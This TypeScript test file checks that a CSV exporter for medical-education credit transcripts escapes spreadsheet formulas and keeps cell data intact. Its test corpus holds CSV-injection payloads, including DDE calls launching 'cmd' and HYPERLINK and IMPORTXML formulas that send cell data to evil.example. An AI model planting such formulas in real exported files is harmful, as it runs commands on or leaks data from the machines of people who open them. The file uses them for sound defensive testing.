import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { csvOf } from '../../../shared/documents/csv.ts';
import { transcriptCsv } from '../../../shared/documents/transcript-csv.ts';
import { transcriptOf } from '../../../shared/domain/transcript.ts';
import { fullest, snapshot } from './samples.ts';

const today = '2026-11-24';

/** Reads a CSV file as RFC 4180 says, by a reader that knows nothing of the writer. */
function readCsv(file: string): readonly (readonly string[])[] {
  const rows: string[][] = [[]];
  let [value, quoted] = ['', false];
  const text = file.replace(/^\ufeff/, '');
  for (let at = 0; at < text.length; at++) {
    const character = text[at];
    if (quoted && character === '"' && text[at + 1] === '"') [value, at] = [`${value}"`, at + 1];
    else if (character === '"') quoted = !quoted;
    else if (quoted) value += character;
    else if (character === ',') [value] = [rows.at(-1)?.push(value) ? '' : ''];
    else if (character === '\r' && text[at + 1] === '\n') {
      rows.at(-1)?.push(value);
      rows.push([]);
      [value, at] = ['', at + 1];
    } else throw new Error(`A bare ${JSON.stringify(character)} at ${at}`);
  }
  return rows.filter((row) => row.length > 0);
}

const starts = ['=', '+', '-', '@', '\t', '\r', '\n', '\u0000', '＝', '＋', '－', '＠', '−'];
const before = ['', ' ', '\u0000', '\ufeff', '\u200b', '\u00a0', ' \t', '\u202e', '\u001f'];
const payloads = [
  '1+1',
  "cmd|' /C calc'!A0",
  'HYPERLINK("https://evil.example?x="&A1,"Open")',
  'SUM(A1:A9)',
  'IMPORTXML("https://evil.example","//a")',
  'DDE("cmd";"/C calc";"x")',
];
const corpus = starts.flatMap((start) =>
  before.flatMap((space) => payloads.map((payload) => `${space}${start}${payload}`)),
);

describe('a file for spreadsheets', () => {
  it(`runs none of ${corpus.length} formulas, in whatever column they stand`, () => {
    expect(corpus.length).toBeGreaterThan(500);
    for (const text of corpus) {
      const [row = []] = readCsv(csvOf([['a', text, text]]));
      expect(row, JSON.stringify(text)).toEqual(['a', `'${text}`, `'${text}`]);
    }
  });

  it('leaves what is no formula as it is', () => {
    for (const text of ['1.25', 'Amélie Nguyễn', 'a=b', "O'Hara", '(+1)', '', '王小明', 'A "b", c\r\nd'])
      expect(readCsv(csvOf([[text]]))).toEqual([[text]]);
  });

  it('gives back every cell that was put in, of any characters', () => {
    fc.assert(
      fc.property(
        fc.array(fc.array(fc.string({ unit: 'binary' }), { minLength: 1, maxLength: 4 }), { minLength: 1 }),
        (rows) => {
          const back = readCsv(csvOf(rows));
          expect(back.map((row) => row.map((text) => text.replace(/^'/, '')))).toEqual(
            rows.map((row) => row.map((text) => text.toWellFormed().replace(/^'/, ''))),
          );
        },
      ),
    );
  });

  it('is UTF-8 with the mark by which Excel knows it, with lines that end in CR LF', () => {
    expect(csvOf([['é'], ['b']])).toBe('\ufeff"é"\r\n"b"\r\n');
  });
});

describe('a transcript as CSV', () => {
  it('has a row for each line under the names of its columns, which says whose it is', () => {
    const certificate = { snapshot: { ...snapshot, jointProvider: 'Harbor Network' }, status: 'valid' } as const;
    expect(readCsv(transcriptCsv(transcriptOf([certificate], {}, today)))).toEqual([
      [
        ...['Participated on', 'Awarded on', 'Activity', 'Format', 'Provider', 'Joint provider', 'Credit type'],
        ...['Amount', 'Counted', 'Basis', 'Certificate number', 'Standing', 'Verification page'],
        'Name on certificate',
      ],
      [
        ...['2026-03-09', '2026-03-09', snapshot.title, 'enduring material', snapshot.provider.name, 'Harbor Network'],
        ...['AMA PRA Category 1 Credits™', '1.25', '1.25', 'Awarded', 'CW-2026-4F7K2M', 'Valid', snapshot.verifyUrl],
        snapshot.name,
      ],
    ]);
  });

  it('counts nothing for attendance and for what was revoked, so that its column sums up to the totals', () => {
    const transcript = transcriptOf(
      [
        { snapshot: fullest, status: 'valid' },
        { snapshot: { ...snapshot, number: 'CW-2026-REVOKED0' }, status: 'revoked' },
      ],
      {},
      today,
    );
    const [, ...rows] = readCsv(transcriptCsv(transcript));
    expect(rows.map((row) => [row[7], row[8], row[9], row[11]])).toEqual(
      expect.arrayContaining([
        ['', '0', 'Attendance', 'Valid'],
        ['1.25', '0', 'Awarded', 'Revoked'],
        ['1.25', '1.25', 'Awarded', 'Valid'],
      ]),
    );
    const counted = rows.reduce((sum, row) => sum + 100 * Number(row[8]), 0);
    expect(counted).toBe(transcript.totals.reduce((sum, { amount }) => sum + amount, 0));
  });
});
